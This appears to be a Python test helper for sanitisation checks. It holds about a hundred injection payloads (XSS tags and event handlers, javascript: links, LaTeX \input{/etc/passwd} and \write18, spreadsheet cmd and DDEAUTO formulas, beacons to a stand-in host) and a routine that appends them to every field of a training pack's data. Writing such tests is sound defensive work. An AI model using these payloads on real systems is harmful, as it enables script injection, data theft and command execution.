"""Texts that mean harm: a hundred, by kind. None may run, ask for anything or be typeset.

A script that runs says so in ``window.ran``; whatever is asked for goes to the host ``HOST``.
"""

import csv
import itertools
import json
import re
from collections.abc import Iterator
from pathlib import Path

from helpers import context

HOST = "spy.example.org"

HTML = (
    "<script>window.ran = 1</script>",
    "<SCRIPT SRC=//spy.example.org/1.js></SCRIPT>",
    "<script\n>window.ran=1</script\n>",
    "<<script>window.ran=1//<</script>",
    "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    "</script><script>window.ran=1</script>",
    "</style><script>window.ran=1</script>",
    "</textarea><script>window.ran=1</script>",
    "</title><script>window.ran=1</script>",
    "</pre></p></td></table><script>window.ran=1</script>",
    "--><script>window.ran=1</script>",
    "<!-- <img src=x onerror=window.ran=1>",
    "]]><script>window.ran=1</script>",
    "<![CDATA[<script>window.ran=1</script>]]>",
    "<img src=x onerror=window.ran=1>",
    "<img src=x onerror='window.ran=1'>",
    '"><img src=x onerror=window.ran=1>',
    "'><img src=x onerror=window.ran=1>",
    "<img/src/onerror=window.ran=1>",
    "<IMG SRC=x OnErRoR=window.ran=1>",
    "<img src=https://spy.example.org/a.png>",
    "<img srcset='https://spy.example.org/a.png 2x'>",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<svg><image href=https://spy.example.org/a.svg></svg>",
    "<body onload=window.ran=1>",
    "<iframe src=javascript:window.parent.ran=1></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src=https://spy.example.org></iframe>",
    "<object data=https://spy.example.org/a.swf></object>",
    "<embed src=https://spy.example.org/a.swf>",
    "<video src=https://spy.example.org/a.mp4 autoplay onerror=window.ran=1></video>",
    "<audio src=x onerror=window.ran=1></audio>",
    "<video><source onerror=window.ran=1></video>",
    "<link rel=stylesheet href=https://spy.example.org/a.css>",
    "<style>@import 'https://spy.example.org/a.css';</style>",
    "<style>*{background:url(https://spy.example.org/a.png)}</style>",
    "<meta http-equiv=refresh content='0;url=https://spy.example.org'>",
    "<base href=https://spy.example.org/>",
    "<form action=https://spy.example.org><input autofocus onfocus=window.ran=1></form>",
    "<details open ontoggle=window.ran=1>more</details>",
    "<marquee onstart=window.ran=1>x</marquee>",
    "<p style='background:url(https://spy.example.org/p.png)'>x</p>",
    "<div onmouseover=window.ran=1 style=position:fixed;inset:0>x</div>",
    "<math><mi xlink:href='javascript:window.ran=1'>x</mi></math>",
    "<template><script>window.ran=1</script></template>",
    "<noscript><img src=https://spy.example.org/n.png></noscript>",
    "<a href=javascript:window.ran=1 autofocus onfocus=window.ran=1>x</a>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "\x3cscript\x3ewindow.ran=1\x3c/script\x3e {{constructor.constructor('window.ran=1')()}}",
)
MARKDOWN = (
    "![a picture](https://spy.example.org/m.png)",
    "![a picture][p]\n\n[p]: https://spy.example.org/m.png",
    "[a link](javascript:window.ran=1)",
    "[a link](JaVaScRiPt:window.ran=1 'title')",
    "[a link](data:text/html,<script>window.ran=1</script>)",
    "[a link](vbscript:window.ran=1)",
    "<javascript:window.ran=1>",
    "<https://spy.example.org>",
    "[![x](https://spy.example.org/x.png)](https://spy.example.org)",
    "**bold** _soft_ `code` ~~struck~~ ==marked==",
    "# A title of the first order",
    "Title\n=====",
    "> quoted",
    "- one\n- two",
    "1. one\n2. two",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "```{=html}\n<script>window.ran=1</script>\n```",
    "```html\n<script>window.ran=1</script>\n```",
    "    <script>window.ran=1</script>",
    "one\n\n<b>two</b>\n\nthree",
    "[^1] and a note\n\n[^1]: https://spy.example.org",
)
FORMULAS = (
    "$x^2$ and $y$",
    "$$\\int_0^1 x\\,dx$$",
    "\\(x\\) and \\[y\\]",
    "\\begin{align}x\\end{align}",
    "\\href{javascript:window.ran=1}{x}",
    "$\\href{https://spy.example.org}{x}$",
    "$\\wrong{$",
    "\\input{/etc/passwd} \\write18{ls}",
)
ADDRESSES = (
    "javascript:window.ran=1",
    "https://spy.example.org/seen",
    "www.spy.example.org",
    "//spy.example.org/a.js",
    "file:///etc/passwd",
    "\\\\spy.example.org\\share",
)
OFFICE = (
    '=HYPERLINK("https://spy.example.org","x")',
    "=cmd|' /C calc'!A0",
    '+WEBSERVICE("https://spy.example.org")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '{ INCLUDEPICTURE "https://spy.example.org/w.png" }',
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }",
    "</w:t></w:r><w:r><w:instrText>DDE x</w:instrText></w:r>",
    "</a:t></a:r><a:hlinkClick r:id='rId9'/>",
)
QUIZZES = (
    "}{=right~wrong#::title::",
    "$CATEGORY: elsewhere",
    "*a) not mine",
    "// no comment",
)
CORPUS = (*HTML, *MARKDOWN, *FORMULAS, *ADDRESSES, *OFFICE, *QUIZZES)


WORDS = {
    "networks.csv": ("name", "character"),
    "terms.csv": ("name", "explanation"),
    "levels.csv": ("name",),
    "assumptions.csv": ("label", "reason"),
    "actions.csv": ("name",),
    "gates.csv": ("remedy",),
    "tasks.csv": ("name",),
    "posts/machine_parts.csv": ("text",),
    "evidence/audience.csv": ("metric", "population", "publisher"),
    "evidence/people.csv": ("metric", "publisher"),
    "evidence/effort.csv": ("metric", "population", "publisher"),
}
"""Tables of a trainer's pack, and the columns of them that a learner reads."""
DOCUMENTS = ("quizzes", "texts", "class")
KEYS = {"lesson", "key", "points", "correct", "part", "network", "form", "box"}
"""What names something in a document; everything else of it is read."""


def pack(folder: Path, start: int = 0) -> Path:
    """A pack whose every word means harm, behind the word that was there; returns the folder.

    Word after word takes the next text of the corpus, from ``start`` on: each kind of document
    holds all of them.
    """
    harm = itertools.cycle(CORPUS[start:] + CORPUS[:start])
    data = context.CHECKOUT / "data"
    for file, columns in WORDS.items():
        with (data / file).open(encoding="utf-8", newline="") as stream:
            table = list(csv.DictReader(stream))
        for row in table:
            row.update({column: f"{row[column]} {next(harm)}" for column in columns})
        (folder / file).parent.mkdir(exist_ok=True)
        with (folder / file).open("w", encoding="utf-8", newline="") as stream:
            writer = csv.DictWriter(stream, table[0])
            writer.writeheader()
            writer.writerows(table)
    for room in DOCUMENTS:
        (folder / room).mkdir()
        for path in sorted((data / room).glob("*.json")):
            # In an exercise's texts a brace is a place to be filled in: what is none is told.
            taken = harm if room != "texts" else (h for h in harm if not re.search("[{}]", h))
            document = _harmful(json.loads(path.read_text(encoding="utf-8")), taken)
            (folder / room / path.name).write_text(json.dumps(document), encoding="utf-8")
    return folder


def _harmful(words: object, harm: Iterator[str]) -> object:
    if isinstance(words, dict):
        return {k: text if k in KEYS else _harmful(text, harm) for k, text in words.items()}
    if isinstance(words, list):
        return [_harmful(text, harm) for text in words]
    return f"{words} {next(harm)}" if isinstance(words, str) else words
